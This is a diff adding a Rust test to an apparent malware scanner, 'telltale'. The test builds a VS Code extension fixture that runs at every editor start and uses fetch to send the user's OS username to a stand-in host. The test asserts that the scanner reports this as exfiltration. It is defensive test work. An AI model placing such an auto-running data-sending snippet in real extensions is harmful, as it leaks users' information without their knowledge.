@@ -173,3 +173,21 @@ fn obfuscation_evidence_names_where_the_encoded_literal_is() {
     let text = String::from_utf8(telltale().arg("scan").arg(dir.path()).output().unwrap().stdout).unwrap();
     assert!(text.contains(&format!("= evidence: {provenance}")), "{text}");
 }
+
+#[test]
+fn vsix_extension_activation_is_in_the_label() {
+    let dir = tempfile::tempdir().unwrap();
+    let vsix = dir.path().join("ext.vsix");
+    let mut zip = zip::ZipWriter::new(std::fs::File::create(&vsix).unwrap());
+    let opts = zip::write::SimpleFileOptions::default();
+    zip.start_file("extension/package.json", opts).unwrap();
+    zip.write_all(br#"{"name":"x","engines":{"vscode":"^1.80.0"},"main":"./out/extension.js","activationEvents":["onStartupFinished"]}"#).unwrap();
+    zip.start_file("extension/out/extension.js", opts).unwrap();
+    zip.write_all(b"const os = require('os'); fetch('https://t.example.com/?u=' + os.userInfo().username);").unwrap();
+    zip.finish().unwrap();
+    let out = telltale().args(["scan", "--format", "json"]).arg(&vsix).output().unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let activation = doc["targets"][0]["label"]["activation"][0].as_str().unwrap_or_else(|| panic!("{doc}"));
+    assert!(activation.contains("./out/extension.js runs at every VS Code start (onStartupFinished)"), "{activation}");
+    assert!(doc["targets"][0]["findings"].as_array().unwrap().iter().any(|f| f["file"] == "extension/out/extension.js" && f["category"] == "exfiltration"));
+}
